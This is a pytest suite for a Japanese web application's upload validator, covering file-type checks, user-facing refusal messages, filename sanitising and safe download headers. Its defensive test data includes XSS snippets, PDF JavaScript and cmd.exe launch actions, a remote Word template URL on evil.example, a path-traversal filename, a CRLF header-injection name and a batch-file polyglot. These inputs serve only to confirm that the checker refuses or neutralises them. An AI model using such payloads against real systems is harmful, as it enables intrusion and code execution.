"""Files that people send."""

from __future__ import annotations

import contextlib
import hashlib
import io
import struct
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Mapping
from urllib.parse import unquote

import pypdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf.generic import DictionaryObject, NameObject

from kijun.web import excel, uploads
from kijun.web.uploads import CheckedUpload, UploadError, check_upload, download_headers, safe_name

ALL = tuple(uploads.MEDIA_TYPES)
MAX = 5 * 1024 * 1024


def check(name: str, content: bytes) -> CheckedUpload:
    return check_upload(name, content, allowed=ALL, max_bytes=MAX)


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(UploadError) as refused:
        check(name, content)
    return str(refused.value)


def office(main: str, more: Mapping[str, bytes] | None = None, types: bytes = b"<Types/>") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": types, main: b"<x/>", **(more or {})}.items():
            archive.writestr(name, content)
    return file.getvalue()


def png(width: int = 640, height: int = 480) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + head + struct.pack(">I", zlib.crc32(head))


def jpeg(
    width: int = 640, height: int = 480, before: bytes = b"\xff\xe0\x00\x04JF", marker: int = 0xC0
) -> bytes:
    return (
        b"\xff\xd8"
        + before
        + bytes([0xFF, marker])
        + struct.pack(">HBHHB", 17, 8, height, width, 3)
        + bytes(20)
    )


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, text) for number, text in enumerate(objects, 1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def stream(dictionary: bytes, content: bytes, line: bytes = b"\n") -> bytes:
    return b"<< %b /Length %d >>\nstream%b%b\nendstream" % (dictionary, len(content), line, content)


def pages() -> pypdf.PdfWriter:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    return writer


def written(writer: pypdf.PdfWriter) -> bytes:
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


DOCX = office("word/document.xml")
XLSX = excel.write_workbook([excel.Sheet("x", [excel.SheetColumn("a", "番号")], [{"a": "1"}])])
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def short(value: object) -> str | None:
    """Files make no names of tests: they are long, and some hold the time."""
    return "file" if isinstance(value, bytes | dict) else None


# --- the ordinary day -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("報告書.pdf", written(pages()), "application/pdf"),
        ("画面.PNG", png(), "image/png"),
        ("写真.jpg", jpeg(), "image/jpeg"),
        ("写真.jpeg", jpeg(before=b"\xff\xff\xe1\x00\x06Exif", marker=0xC2), "image/jpeg"),
        ("起案.docx", DOCX, uploads.MEDIA_TYPES["docx"]),
        ("一覧.xlsx", XLSX, uploads.MEDIA_TYPES["xlsx"]),
        ("説明.pptx", office("ppt/presentation.xml"), uploads.MEDIA_TYPES["pptx"]),
        ("一覧.csv", "\ufeff番号,氏名\r\n1,𠮷田".encode(), "text/csv"),
        ("一覧.csv", "番号,氏名\r\n1,髙橋①".encode("cp932"), "text/csv"),
        ("メモ.txt", "MZ世代について。<b>太字</b>と<script>の話".encode(), "text/plain"),
    ],
    ids=short,
)
def test_it_works(name: str, content: bytes, media_type: str) -> None:
    taken = check(name, content)
    assert taken == CheckedUpload(name, media_type, hashlib.sha256(content).hexdigest(), content)


def test_a_pdf_of_our_own() -> None:
    typst = pytest.importorskip("typst")
    content = typst.compile(b'#set document(title: [x])\n= A\n#link("https://example.jp")[b] ' + b"c " * 3000)
    assert check("x.pdf", content).content == content


def test_only_what_the_page_allows() -> None:
    assert check_upload("a.jpeg", jpeg(), allowed={"jpg"}, max_bytes=MAX).media_type == "image/jpeg"
    with pytest.raises(UploadError) as refused:
        check_upload("a.png", png(), allowed=["pdf", "jpg"], max_bytes=MAX)
    assert "次の形式で保存し直してください：.pdf、.jpg、.jpeg" in str(refused.value)


def test_a_type_without_a_check_cannot_be_allowed() -> None:
    with pytest.raises(ValueError, match="gif"):
        check_upload("a.gif", b"GIF89a", allowed=["gif"], max_bytes=MAX)


# --- what people get wrong ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "part"),
    [
        ("a.pdf", b"", "ファイルが空です"),
        ("a.txt", b"a" * (MAX + 100_000), "大きすぎます（5.1MB、上限5MB）"),
        ("a", b"a", "この形式のファイルは受け取れません"),
        ("a.gif", b"GIF89a", "この形式のファイルは受け取れません"),
        ("a.eml", b"From: x", "この形式のファイルは受け取れません"),
        ("a.docm", DOCX, "この形式のファイルは受け取れません"),
        ("報告書.pdf.exe", b"MZ\x90\0", "この形式のファイルは受け取れません"),
        ("a.docx", OLE + b"x" * 600, "古い形式"),
        ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "パスワードを外して"),
        ("a.txt", "メモ".encode("utf-16"), "UTF-16です"),
        ("a.txt", b"a\0b", "拡張子（.txt）と合いません"),
        ("a.txt", b"\x81", "拡張子（.txt）と合いません"),
        ("a.png", jpeg(), "拡張子（.png）と合いません"),
        ("a.jpg", png(), "拡張子（.jpg）と合いません"),
        ("a.docx", XLSX, "拡張子（.docx）と合いません"),
        ("a.xlsx", b"a,b", "拡張子（.xlsx）と合いません"),
        ("a.pdf", b"\n%PDF-1.7", "拡張子（.pdf）と合いません"),
        ("a.docx", b"PK\x03\x04 cut", "壊れている"),
        ("a.png", png(10_000, 5_001), "10000×5001ピクセル"),
        ("a.jpg", jpeg(60_000, 60_000), "60000×60000ピクセル"),
        ("a.png", png(0, 5), "画像が大きすぎます（0×5"),
        ("a.png", png()[:20], "拡張子（.png）と合いません"),
        ("a.jpg", b"\xff\xd8\xff\xda" + bytes(20), "拡張子（.jpg）と合いません"),
        ("a.jpg", b"\xff\xd8\xff\xe0\x00\x00" + bytes(20), "拡張子（.jpg）と合いません"),
        ("a.jpg", b"\xff\xd8\xff", "拡張子（.jpg）と合いません"),
    ],
    ids=short,
)  # fmt: skip
def test_refused_with_what_to_do(name: str, content: bytes, part: str) -> None:
    assert part in refusal(name, content)


# --- what somebody does on purpose ----------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00" + bytes(60),
        b"\x7fELF\x02",
        b"#!/bin/sh\n",
        b"\xca\xfe\xba\xbe",
        b"L\x00\x00\x00\x01\x14\x02\x00",
        b"\xcf\xfa\xed\xfe",
    ],
)
@pytest.mark.parametrize("ending", ["pdf", "png", "jpg", "docx", "txt", "csv"])
def test_programs(content: bytes, ending: str) -> None:
    message = refusal(f"a.{ending}", content)
    assert "プログラム" in message


@pytest.mark.parametrize(
    "text",
    [
        "<html><script>alert(1)</script>",
        "\ufeff \r\n<!DOCTYPE html>",
        "<!-- a --> <!----> <SVG onload=x>",
        "<!-- without end",
        '<?xml version="1.0"?><svg/>',
        "<?php echo 1;",
        "<script src=x>",
        "@echo off\r\ndel *",
        "\n#!/usr/bin/env python",
    ],
)
def test_markup_and_scripts_in_text(text: str) -> None:
    assert "ウェブページやプログラム" in refusal("a.txt", text.encode())
    assert refusal("a.pdf", text.encode())


def test_many_comments_take_no_time() -> None:
    started = time.monotonic()
    check("a.txt", b"<!---->" * 300_000 + b"x")
    assert time.monotonic() - started < 5


@pytest.mark.parametrize(
    ("more", "part"),
    [
        ({"word/vbaProject.bin": b"x"}, "マクロ"),
        ({"word/activeX/activeX1.bin": b"x"}, "マクロ"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "埋め込まれている"),
        ({"word/embeddings/setup": b"x"}, "埋め込まれている"),
        ({"word/media/image1.bmp": bytes(40_000_000)}, "展開すると"),
        ({"word/media/a.xml": b"<!DOCTYPE a><a/>"}, "壊れている"),
        (
            {"word/_rels/settings.xml.rels": b"<R Target='http://evil.example/t.dotm' Type='http://s/attachedTemplate'/>"},
            "外部のサイト",
        ),
    ],
    ids=short,
)  # fmt: skip
def test_hostile_office_files(more: dict[str, bytes], part: str) -> None:
    assert part in refusal("a.docx", office("word/document.xml", more))


def test_harmless_parts_of_office_files() -> None:
    link = b'<R Type="http://s/hyperlink" Target="https://www.example.jp/" TargetMode="External"/>'
    template = b'<R Type="http://s/attachedTemplate" Target="file:///C:/x.dotx" TargetMode="External"/>'
    more = {
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": b"x",
        "word/_rels/document.xml.rels": link + template,
        "xl/printerSettings/printerSettings1.bin": b"x",
    }
    assert check("a.docx", office("word/document.xml", more))


def test_macros_by_content_type() -> None:
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    assert "マクロ" in refusal("a.docx", office("word/document.xml", types=types))


def test_markup_without_end_takes_no_time() -> None:
    started = time.monotonic()
    for unit in (b"<", b"<a Target=", b"<!--"):
        check("a.docx", office("word/document.xml", {"_rels/.rels": unit * 20_000}))
    assert time.monotonic() - started < 5


def test_an_encrypted_zip_entry() -> None:
    content = bytearray(DOCX)
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert "パスワードを外して" in refusal("a.docx", bytes(content))


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    ("content", "part"),
    [
        (pdf(SCRIPT), "スクリプト"),
        (pdf(b"<< /S /J#61vaScript >>"), "スクリプト"),
        (pdf(b"<< /Names << /#4aavaScript 3 0 R >> >>"), "スクリプト"),
        (pdf(b"<< /S/Launch/F(cmd.exe)>>"), "プログラムを起動"),
        (pdf(b"<</Type/EmbeddedFile>>"), "添付された"),
        (pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "添付された"),
        (pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"3 0 " + SCRIPT))), "スクリプト"),
        (pdf(stream(b"/N 1 /First 4 /Filter [ /Fl#61teDecode ]", zlib.compress(b"3 0 /Launch"), b"\r\n")), "プログラム"),
        (pdf(stream(b"/X (obj) /Filter /FlateDecode", zlib.compress(b" " * 200_000 + SCRIPT))), "スクリプト"),
        (pdf(stream(b"/Filter/FlateDecode", zlib.compress(bytes(range(256)) * 300 + SCRIPT, 0))), "スクリプト"),
        (pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", SCRIPT.hex().encode())), "確かめられません"),
        (pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/LZWDecode]", b"x")), "確かめられません"),
        (pdf(stream(b"/Type /ObjStm /First 4 /Filter [/FlateDecode /ASCIIHexDecode]", b"x")), "確かめられません"),
        (
            pdf(stream(b"/Type /ObjStm /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", b"x")),
            "確かめられません",
        ),
        (pdf(b"<< >>") + b"trailer << /Encrypt 5 0 R >>", "保護を外して"),
    ],
    ids=short,
)  # fmt: skip
def test_active_pdfs(content: bytes, part: str) -> None:
    assert part in refusal("a.pdf", content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<< /Title (/JavaScripts and /LaunchPad, JavaScript) >>"),
        pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"3 0 << /A 1 >>"))),
        pdf(
            stream(
                b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 1 >>", b"x\x9c"
            )
        ),
        pdf(
            stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"3 0 << /A 1 >>")),
            stream(b"/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", zlib.compress(b"x")),
        ),
        pdf(stream(b"/Subtype /Image /Filter /DCTDecode", jpeg())),
        pdf(stream(b"/Filter /FlateDecode", b"damaged")),
        pdf(stream(b"/Filter /FlateDecode", zlib.compress(bytes(10_000_000)))),
    ],
    ids=short,
)
def test_harmless_pdfs(content: bytes) -> None:
    assert check("a.pdf", content)


def test_pdfs_that_another_program_wrote() -> None:
    script, attached, locked = pages(), pages(), pages()
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript")})
    script.root_object[NameObject("/OpenAction")] = action
    attached.add_attachment("a.exe", b"MZ")
    locked.encrypt("x", algorithm="RC4-128")
    assert "スクリプト" in refusal("a.pdf", written(script))
    assert "添付された" in refusal("a.pdf", written(attached))
    assert "保護を外して" in refusal("a.pdf", written(locked))


@pytest.mark.parametrize(("name", "content"), [("a.pdf", pdf(b"<< >>")), ("a.png", png()), ("a.jpg", jpeg())])
def test_two_files_in_one(name: str, content: bytes) -> None:
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as archive:
        archive.writestr("run.bat", "@echo off")
    with pytest.raises(UploadError, match="つながっています"):
        check(name, content + hidden.getvalue())


def test_many_streams_take_no_time() -> None:
    small = stream(b"/Filter /FlateDecode", zlib.compress(b"x" * 100))
    started = time.monotonic()
    check("a.pdf", pdf(*[small] * 20_000))
    check("a.pdf", b"%PDF-1.7\n" + b"stream\n" * 100_000)
    assert time.monotonic() - started < 10


@given(
    st.binary(max_size=200),
    st.sampled_from(ALL),
    st.sampled_from([b"", b"%PDF-1.7", b"PK\x03\x04", b"\xff\xd8\xff\xe0"]),
)
def test_any_bytes(content: bytes, ending: str, start: bytes) -> None:
    with contextlib.suppress(UploadError):
        assert check(f"a.{ending}", start + content).content == start + content


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("報告書.pdf", "報告書.pdf"),
        (r"C:\Users\花子\報告.pdf", "報告.pdf"),
        ("../../etc/passwd", "passwd"),
        ("か\u3099.txt", "が.txt"),
        ("a\u202efdp.exe", "afdp.exe"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie x.txt"),
        ('a<b>"c"|d?*.txt', "abcd.txt"),
        (" a . pdf ", "a. pdf"),
        ("a.pdf...", "a.pdf"),
        ("CON.txt", "_CON.txt"),
        ("com1", "_com1"),
        ("console.txt", "console.txt"),
        ("", "file"),
        ("/", "file"),
        ("...", "file"),
        ("葛󠄀城.txt", "葛󠄀城.txt"),
        ("a\ud800.txt", "a.txt"),
    ],
)
def test_names(name: str, safe: str) -> None:
    assert safe_name(name) == safe


def test_a_long_name_keeps_its_ending() -> None:
    name = safe_name("長" * 300 + ".docx")
    assert len(name) == 120
    assert name.endswith("長.docx")
    assert len(safe_name("x." + "a" * 300)) == 120


@given(st.text(max_size=300))
def test_any_name(name: str) -> None:
    safe = safe_name(name)
    assert 1 <= len(safe) <= 120
    assert not set(safe) & set('/\\\r\n\0<>:"|?*')
    assert unicodedata.is_normalized("NFC", safe)
    assert safe_name(safe) == safe


# --- giving out -----------------------------------------------------------------------------


def test_headers() -> None:
    assert download_headers("報告書 1.pdf", "application/pdf") == {
        "Content-Type": "application/pdf",
        "Content-Disposition": "attachment; filename=\"___ 1.pdf\"; filename*=UTF-8''%E5%A0%B1%E5%91%8A%E6%9B%B8%201.pdf",
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "sandbox; default-src 'none'",
    }


@pytest.mark.parametrize(
    ("media_type", "sent"),
    [
        *[(media_type, media_type) for media_type in sorted(set(uploads.MEDIA_TYPES.values()))],
        ("application/zip", "application/zip"),
        ("application/json", "application/json"),
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("text/javascript", "application/octet-stream"),
        ("text/plain\r\nX: y", "application/octet-stream"),
        ("", "application/octet-stream"),
    ],
)
def test_nothing_that_a_browser_runs(media_type: str, sent: str) -> None:
    assert download_headers("a", media_type)["Content-Type"] == sent


@given(st.text(max_size=150))
def test_headers_hold_any_name(name: str) -> None:
    value = download_headers(name, "application/pdf")["Content-Disposition"]
    assert value.isascii()
    assert value.isprintable()
    assert value.count('"') == 2
    assert unquote(value.partition("UTF-8''")[2]) == safe_name(name)
